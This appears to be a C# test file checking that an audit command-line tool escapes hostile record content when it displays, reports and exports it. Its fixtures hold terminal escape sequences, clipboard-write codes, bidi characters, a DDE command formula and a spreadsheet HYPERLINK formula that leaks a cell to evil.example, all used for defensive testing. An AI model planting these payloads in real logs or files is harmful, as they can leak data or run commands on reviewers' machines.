using Functions.Tests.TestInfrastructure;

namespace Functions.Tests.Audit;

/// <summary>
/// What a reviewer's terminal, report and spreadsheet get from a hostile call's record: escape sequences, C1, bidi and
/// zero-width characters and raw CRs made visible, never interpreted; formula cells neutralised in CSV.
/// </summary>
[Collection(AzuriteCollection.Name)]
public sealed class AuditCliDisplayTests(AzuriteFixture azurite) : IAsyncLifetime
{
    private const string Esc = "\u001b";
    private static readonly DateTimeOffset s_time = new(2024, 10, 8, 9, 0, 0, TimeSpan.Zero);

    /// <summary>A prompt that clears the screen and scrollback, then shows a decoy "Prompt as received" block.</summary>
    private static readonly string s_prompt =
        "{\"messages\":[{\"role\":\"user\",\"content\":\"real question\"}]}\n"
        + Esc + "[2J" + Esc + "[3J" + Esc + "[H----- Prompt as received (12 chars) -----\ninnocent one\n"
        + "\u009b31m c1 \u202Eevil\u202C \u2066isolate\u2069 zero\u200Bwidth {\"a\":1,\r\"b\":2}";

    private readonly AuditTestHost _host = new(azurite.ConnectionString);

    public async Task InitializeAsync() =>
        await _host.CallAsync(
            AuditTestHost.Start("hostile-1", s_time, caller: "eve\u200B", prompt: s_prompt) with
            {
                // A terminal title (OSC 0) and a clipboard write (OSC 52) in the User-Agent; a formula in the invocation id.
                UserAgent = "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Open\")" + Esc + "]0;pwned" + "\u0007" + Esc + "]52;c;ZXZpbA==" + "\u0007",
                InvocationId = "=cmd|' /C calc'!A0",
            },
            AuditTestHost.Completion("hostile-1", s_time, response: "+1 answer\r\n@SUM(1+1)\tmore " + Esc + "[8mconcealed") with
            {
                ErrorCode = "model_not_found",
                ErrorMessage = "The model 'x" + Esc + "[31m\nforged' does not exist",
            });

    public async Task DisposeAsync() => await _host.DisposeAsync();

    [Fact]
    public async Task Show_MakesEscapeC1BidiZeroWidthAndCarriageReturnsVisible_NeverWritesThem()
    {
        var (exit, output, _) = await RunAsync("show", "hostile-1");

        Assert.Equal(0, exit);
        AssertNothingInterpretable(output);
        Assert.Contains("\\u001b[2J\\u001b[3J\\u001b[H", output);
        Assert.Contains("\\u001b]0;pwned\\u0007", output);
        Assert.Contains("\\u009b31m", output);
        Assert.Contains("⟨U+202E⟩evil⟨U+202C⟩ ⟨U+2066⟩isolate⟨U+2069⟩ zero⟨U+200B⟩width", output);
        Assert.Contains("{\"a\":1,\\u000d\"b\":2}", output);
        Assert.Contains("Caller               eve⟨U+200B⟩", output);
        // Single-line fields escape newlines too: the error message cannot start a line of its own.
        Assert.Contains("Error message        The model 'x\\u001b[31m\\u000aforged' does not exist", output);
        // The decoy header inside the prompt is a line of the body, not a section of the output.
        var lines = output.Split('\n');
        Assert.Single(lines, l => l.StartsWith("----- Prompt as received", StringComparison.Ordinal));
        Assert.Contains(lines, l => l.StartsWith("| \\u001b[2J\\u001b[3J\\u001b[H----- Prompt as received (12 chars) -----", StringComparison.Ordinal));
    }

    [Fact]
    public async Task ShowRaw_WritesTheTextAsStored_AndWarnsOnStderr()
    {
        var (exit, output, error) = await RunAsync("show", "hostile-1", "--raw");

        Assert.Equal(0, exit);
        Assert.Contains(s_prompt, output);
        Assert.Contains("--raw", error);
        Assert.Contains("reach your terminal", error);
    }

    [Fact]
    public async Task Query_ShowsTheCallerVisibly()
    {
        var (exit, output, _) = await RunAsync("query", "--from", "2024-10-08", "--to", "2024-10-08");

        Assert.Equal(0, exit);
        AssertNothingInterpretable(output);
        Assert.Contains("eve⟨U+200B⟩", output);
    }

    [Fact]
    public async Task Report_MakesControlBidiAndZeroWidthCharactersVisibleInItsHtml()
    {
        var file = Path.Combine(Path.GetTempPath(), $"audit-report-{Guid.NewGuid():N}.html");
        try
        {
            var (exit, _, _) = await RunAsync("report", "--from", "2024-10-08", "--to", "2024-10-08", "--output", file);

            var html = await File.ReadAllTextAsync(file);
            Assert.Equal(0, exit);
            AssertNothingInterpretable(html);
            Assert.Contains("eve⟨U+200B⟩", html);
            Assert.Contains($"<span id=\"store\">table {_host.TableName} in the local emulator (account devstoreaccount1 at 127.0.0.1:", html);
        }
        finally
        {
            File.Delete(file);
        }
    }

    [Fact]
    public async Task ExportCsv_NeutralisesFormulaCells_WhileJsonLinesKeepsTheTextExact()
    {
        var (exit, csv, _) = await RunAsync("export", "--format", "csv", "--from", "2024-10-08");
        var (_, jsonl, _) = await RunAsync("export", "--format", "jsonl", "--from", "2024-10-08");

        Assert.Equal(0, exit);
        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"Open\"\")", csv);
        Assert.Contains(",'=cmd|' /C calc'!A0,", csv);
        Assert.Contains(",\"'+1 answer\r\n@SUM(1+1)", csv);
        var record = System.Text.Json.JsonDocument.Parse(jsonl).RootElement;
        Assert.Equal("=cmd|' /C calc'!A0", record.GetProperty("InvocationId").GetString());
        Assert.StartsWith("=HYPERLINK(", record.GetProperty("UserAgent").GetString());
        Assert.StartsWith("+1 answer\r\n", record.GetProperty("ResponseText").GetString());
    }

    /// <summary>No escape, other control (but newline and tab, which bodies keep), C1, bidi, zero-width or other invisible format character.</summary>
    private static void AssertNothingInterpretable(string text)
    {
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            var bad = (char.IsControl(c) && c is not '\n' and not '\t') || c is '\u2028' or '\u2029'
                || System.Globalization.CharUnicodeInfo.GetUnicodeCategory(c) == System.Globalization.UnicodeCategory.Format;
            Assert.False(bad, $"U+{(int)c:X4} at {i}: …{text[Math.Max(0, i - 40)..Math.Min(text.Length, i + 20)]}…");
        }
    }

    private async Task<(int Exit, string Output, string Error)> RunAsync(params string[] args)
    {
        using var cli = new AuditCliRunner(azurite.ConnectionString, _host.TableName);
        return await cli.RunAsync(args);
    }
}
